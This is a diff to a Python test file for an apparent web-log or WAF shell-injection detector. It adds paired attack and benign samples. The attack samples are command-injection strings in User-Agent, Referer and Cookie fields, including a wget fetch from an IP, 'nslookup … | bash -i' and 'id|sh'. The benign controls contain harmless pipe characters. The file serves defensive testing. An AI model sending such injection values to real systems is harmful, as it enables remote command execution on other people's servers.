@@ -114,7 +114,16 @@ CASES = (
         [
             line("/", agent="x; wget http://203.0.113.91/a"),
             waf("/", headers=(("Referer", "https://www.example.com/`id`"),)),
+            line("/", agent="nslookup x.example | bash -i"),
+            waf("/", headers=(("Cookie", "a=1;id|sh"),)),
         ],
-        [line("/", agent="Wget/1.21.4"), line("/", agent="curl/8.5.0 (x86_64; linux)")],
+        [
+            line("/", agent="Wget/1.21.4"),
+            line("/", agent="curl/8.5.0 (x86_64; linux)"),
+            line(
+                "/", agent="Mozilla/5.0 | shopping", referer="https://www.example.com/?q=hat|shoe"
+            ),
+            waf("/", headers=(("Cookie", "__utmz=1.utmcsr=mail|shop; seen=hats|shoes"),)),
+        ],
     ),
 )
